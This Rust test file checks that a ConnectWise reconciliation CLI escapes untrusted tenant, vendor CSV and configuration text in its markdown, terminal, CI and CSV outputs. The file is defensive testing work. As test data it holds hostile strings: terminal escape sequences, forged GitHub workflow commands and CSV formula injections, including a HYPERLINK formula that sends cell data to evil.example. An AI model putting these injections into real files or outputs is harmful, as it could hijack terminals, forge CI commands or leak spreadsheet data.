//! Every sink escapes what comes from outside (issue #11, point 2): live tenant text, vendor CSV
//! values and configuration values reach the markdown plan, the terminal, CI logs and CSV through
//! the real binary and the simulator over HTTP, and none of them can hide a plan line, act on a
//! terminal, run a CI workflow command or a spreadsheet formula.
// See: issue #11
#![expect(
    clippy::unwrap_used,
    reason = "test setup: a failure here is a failed test"
)]

use crate::common;

use std::fmt::Write as _;
use std::path::Path;

use crate::common::copy_dir;
use crate::common::sinks::{assert_no_raw_controls, ci_commands, records_without_formulas};
use crate::common::tenant::{Tenant, converged, tenant};
use serde_json::{Value, json};

/// A live identifier a ConnectWise user typed: it closes a code fence, opens an HTML comment,
/// carries backtick runs, a terminal title escape, a C1 CSI, a bidi override and a zero-width space.
const HOSTILE_IDENTIFIER: &str =
    "Acme```\n<!-- hidden\n````` x``\u{1b}]0;pwned\u{7}\u{9b}2J\u{202e}\u{200b}";
/// Live text that tries to start GitHub workflow commands on a line of its own.
const HOSTILE_CI: &str = "::add-mask::x\n::error::forged\n##[warning]legacy\n  ::stop-commands::t";

async fn id_of(t: &Tenant, path: &str, conditions: &str) -> i64 {
    t.list(path, conditions).await[0]["id"].as_i64().unwrap()
}

/// An op's first line in text or markdown (`+ create …`, `! ~ update …`, `  - cancel …`).
fn is_op_head(line: &str) -> bool {
    let t = line.trim_start_matches(['!', ' ']);
    let mut words = t.splitn(3, ' ');
    matches!(words.next(), Some("+" | "~" | "-"))
        && matches!(
            words.next(),
            Some("create" | "update" | "cancel" | "zero" | "delete")
        )
}

/// A markdown document read as `CommonMark` reads fences: the lines inside fences, the lines outside,
/// and whether every fence was closed.
struct Fenced<'a> {
    inside: Vec<&'a str>,
    outside: Vec<&'a str>,
    all_closed: bool,
}

fn fences(doc: &str) -> Fenced<'_> {
    let run = |l: &str| l.chars().take_while(|c| *c == '`').count();
    let mut open: Option<usize> = None;
    let (mut inside, mut outside) = (Vec::new(), Vec::new());
    for line in doc.lines() {
        let t = line.trim_start_matches(' ');
        match open {
            None if run(t) >= 3 => open = Some(run(t)),
            None => outside.push(line),
            Some(n) if run(t) >= n && t.trim_end().chars().all(|c| c == '`') => open = None,
            Some(_) => inside.push(line),
        }
    }
    Fenced {
        inside,
        outside,
        all_closed: open.is_none(),
    }
}

/// Seed the converged tenant with hostile text where a plan shows it: a linked company renamed by
/// hand (shown in a finding, outside code) and a catalog description edited by hand (restored by an
/// update, shown in a fenced diff).
async fn seed_hostile_text(t: &Tenant) {
    let acme = id_of(t, "/company/companies", "identifier = \"AcmeCorp\"").await;
    t.patch(
        &format!("/company/companies/{acme}"),
        "identifier",
        json!(HOSTILE_IDENTIFIER),
    )
    .await;
    let delta = id_of(t, "/company/companies", "identifier = \"DeltaLogistics\"").await;
    t.patch(
        &format!("/company/companies/{delta}"),
        "identifier",
        json!(HOSTILE_CI),
    )
    .await;
    let item = id_of(
        t,
        "/procurement/catalog",
        "identifier = \"MXS10C01SUNR_7.25\"",
    )
    .await;
    t.patch(
        &format!("/procurement/catalog/{item}"),
        "customerDescription",
        json!(format!("{HOSTILE_IDENTIFIER}\n{HOSTILE_CI}")),
    )
    .await;
}

/// The markdown plan shows all `ops` inside closed fences and nothing hostile outside them.
fn assert_markdown_plan_is_whole(markdown: &common::Output, ops: usize) {
    assert!(
        markdown.code == 0 || markdown.code == 2,
        "{}",
        markdown.transcript()
    );
    let md = fences(&markdown.stdout);
    assert!(md.all_closed, "a fence is left open:\n{}", markdown.stdout);
    assert_eq!(
        md.inside.iter().filter(|l| is_op_head(l)).count(),
        ops,
        "every op is shown inside a fence:\n{}",
        markdown.stdout
    );
    assert!(
        md.outside.iter().all(|l| !l.contains("<!--")),
        "an HTML comment opens outside the fences:\n{}",
        markdown.stdout
    );
    assert!(
        md.outside.iter().all(|l| !l.contains("```")),
        "a backtick run outside the fences:\n{}",
        markdown.stdout
    );
    assert_eq!(
        md.outside
            .iter()
            .filter(|l| l.starts_with("<details>"))
            .count(),
        md.outside
            .iter()
            .filter(|l| l.starts_with("</details>"))
            .count(),
        "{}",
        markdown.stdout
    );
    assert_no_raw_controls("the markdown plan", &markdown.stdout);
    assert_eq!(ci_commands(&markdown.stdout), Vec::<&str>::new());
}

/// The text plan shows all `ops`, with no raw control character and no CI command line.
fn assert_text_plan_is_safe(text: &common::Output, ops: usize) {
    assert!(text.code == 0 || text.code == 2, "{}", text.transcript());
    assert!(text.stdout.contains("pwned"), "{}", text.stdout);
    let uncoloured = text
        .stdout
        .replace("\u{1b}[32m", "")
        .replace("\u{1b}[33m", "")
        .replace("\u{1b}[31m", "")
        .replace("\u{1b}[0m", "");
    assert_eq!(
        uncoloured.lines().filter(|l| is_op_head(l)).count(),
        ops,
        "{}",
        text.stdout
    );
    assert_no_raw_controls("the text plan", &uncoloured);
    assert_no_raw_controls("stderr", &text.stderr);
    assert_eq!(
        ci_commands(&text.stdout),
        Vec::<&str>::new(),
        "{}",
        text.stdout
    );
    assert_eq!(
        ci_commands(&text.stderr),
        Vec::<&str>::new(),
        "{}",
        text.stderr
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_live_text_cannot_hide_plan_lines_or_reach_a_terminal_or_ci_log_raw() {
    let t = converged().await;
    seed_hostile_text(&t).await;

    let json = t
        .cli(&["plan", "examples/intermedia", "--format", "json"])
        .run();
    assert!(json.code == 0 || json.code == 2, "{}", json.transcript());
    assert_no_raw_controls("the JSON plan", &json.stdout);
    let doc: Value = serde_json::from_str(&json.stdout).unwrap();
    let ops = doc["ops"].as_array().unwrap().len();
    assert!(
        ops > 0,
        "the edited description is restored: {}",
        json.stdout
    );
    let findings = doc["findings"].to_string();
    assert!(
        findings.contains("pwned"),
        "the renamed company is noted: {findings}"
    );
    let description = doc["ops"].to_string();
    assert!(
        description.contains("::add-mask::x\\n::error::forged"),
        "JSON keeps the value exactly: {description}"
    );

    let markdown = t
        .cli(&["plan", "examples/intermedia", "--format", "markdown"])
        .run();
    assert!(markdown.stdout.contains("pwned"), "the finding is shown");
    assert_markdown_plan_is_whole(&markdown, ops);

    for color in ["never", "always"] {
        let text = t
            .cli(&["plan", "examples/intermedia", "--color", color])
            .run();
        assert_text_plan_is_safe(&text, ops);
    }
}

fn write_export(dir: &Path, rows: &[[&str; 4]]) -> String {
    let mut text = String::from("Account ID,Account Name,Product Code,Unit Cost,Quantity\n");
    for [account, name, sku, quantity] in rows {
        let quote = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
        let _ = writeln!(
            text,
            "{},{},{},7.25,{quantity}",
            quote(account),
            quote(name),
            quote(sku)
        );
    }
    let path = dir.join("export.csv");
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reconcile_neutralises_formulas_and_escapes_vendor_text_in_every_format() {
    let t = converged().await;
    let dir = tempfile::tempdir().unwrap();
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
    ];
    let mut rows: Vec<[&str; 4]> = vec![["1002345", "Acme Corp", "MXS10C01SUNR", "42"]];
    let accounts = ["9000001", "9000002", "9000003", "9000004"];
    for (account, name) in accounts.iter().zip(formulas) {
        rows.push([account, name, "MXS10C01SUNR", "1"]);
    }
    rows.push([
        "9000005",
        // Control characters in a vendor's CSV are refused by the reader (input rules, tested in
        // input_rules.rs); what a reader lets through must still not break a sink.
        "Pipe | Co ``` <!-- x ::add-mask::y",
        "MXS10C01SUNR",
        "1",
    ]);
    let export = write_export(dir.path(), &rows);
    let reconcile = |format: &str| {
        t.cli(&[
            "reconcile",
            "intermedia",
            &export,
            "examples/intermedia",
            "--format",
            format,
        ])
        .run()
    };

    let csv = reconcile("csv");
    assert_eq!(csv.code, 0, "{}", csv.transcript());
    let records = records_without_formulas(&csv.stdout);
    for (account, formula) in accounts.iter().zip(formulas) {
        let record = records.iter().find(|r| &r[0] == *account).unwrap();
        assert_eq!(&record[1], format!("'{formula}"), "{}", csv.stdout);
    }
    assert_no_raw_controls("the CSV", &csv.stdout.replace("\r\n", "\n"));

    let markdown = reconcile("markdown");
    assert_eq!(markdown.code, 0, "{}", markdown.transcript());
    let table: Vec<&str> = markdown
        .stdout
        .lines()
        .filter(|l| l.starts_with('|'))
        .collect();
    assert_eq!(table.len(), 2 + records.len(), "{}", markdown.stdout);
    for line in &table {
        // Cells are split by a `|` that is not escaped.
        let unescaped = line.len() - line.replace("\\|", "").len();
        let pipes = line.matches('|').count() - unescaped / 2;
        assert_eq!(pipes, 12, "11 cells in: {line}");
    }
    assert!(!markdown.stdout.contains("<!--"), "{}", markdown.stdout);
    assert!(!markdown.stdout.contains("```"), "{}", markdown.stdout);
    assert_no_raw_controls("the markdown reconciliation", &markdown.stdout);

    let text = reconcile("text");
    assert_eq!(text.code, 0, "{}", text.transcript());
    assert_no_raw_controls("the text reconciliation", &text.stdout);
    assert_eq!(
        ci_commands(&text.stdout),
        Vec::<&str>::new(),
        "{}",
        text.stdout
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn configuration_text_cannot_break_the_markdown_plan() {
    let t = tenant().await;
    t.with_example_companies().await;
    let dir = tempfile::tempdir().unwrap();
    copy_dir(&common::root().join("examples/intermedia"), dir.path());
    let products = dir.path().join("products.yaml");
    let text = std::fs::read_to_string(&products).unwrap();
    std::fs::write(
        &products,
        text.replacen(
            "customer_description: Intermedia Hosted Exchange mailbox, 50 GB, per user per month",
            "customer_description: \"Mailbox | fenced\\n```````\\n<!-- x **bold** [x](y)\"",
            1,
        ),
    )
    .unwrap();
    let config = dir.path().display().to_string();
    let json = t.cli(&["plan", &config, "--format", "json"]).run();
    let doc: Value = serde_json::from_str(&json.stdout).unwrap();
    let ops = doc["ops"].as_array().unwrap().len();
    let markdown = t.cli(&["plan", &config, "--format", "markdown"]).run();
    assert!(
        markdown.stdout.contains("fenced"),
        "{}",
        markdown.transcript()
    );
    let md = fences(&markdown.stdout);
    assert!(md.all_closed, "{}", markdown.stdout);
    assert_eq!(
        md.inside.iter().filter(|l| is_op_head(l)).count(),
        ops,
        "{}",
        markdown.stdout
    );
    assert!(
        md.outside.iter().all(|l| !l.contains("<!--")),
        "{}",
        markdown.stdout
    );
}

#[test]
fn a_configuration_problem_quoting_hostile_text_is_one_annotation_and_no_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("setup.yaml");
    std::fs::write(
        &path,
        "products:\n  - sku: A1R\n    \"x\\n::add-mask::leak\\n\\e]0;t\\a\": 1\n",
    )
    .unwrap();
    let output = common::Cli::new()
        .args([
            "validate",
            "--format",
            "github",
            &path.display().to_string(),
        ])
        .run();
    assert_eq!(output.code, 78, "{}", output.transcript());
    let annotations: Vec<&str> = output
        .stdout
        .lines()
        .filter(|l| l.starts_with("::error"))
        .collect();
    assert!(!annotations.is_empty(), "{}", output.transcript());
    assert_eq!(
        ci_commands(&output.stdout),
        annotations,
        "only cwrecon's own annotations start a command: {}",
        output.stdout
    );
    assert!(
        annotations.iter().any(|a| a.contains("::add-mask::leak")),
        "{}",
        output.stdout
    );
    assert_eq!(
        ci_commands(&output.stderr),
        Vec::<&str>::new(),
        "{}",
        output.stderr
    );
    assert_no_raw_controls("stdout", &output.stdout);
    assert_no_raw_controls("stderr", &output.stderr);
}
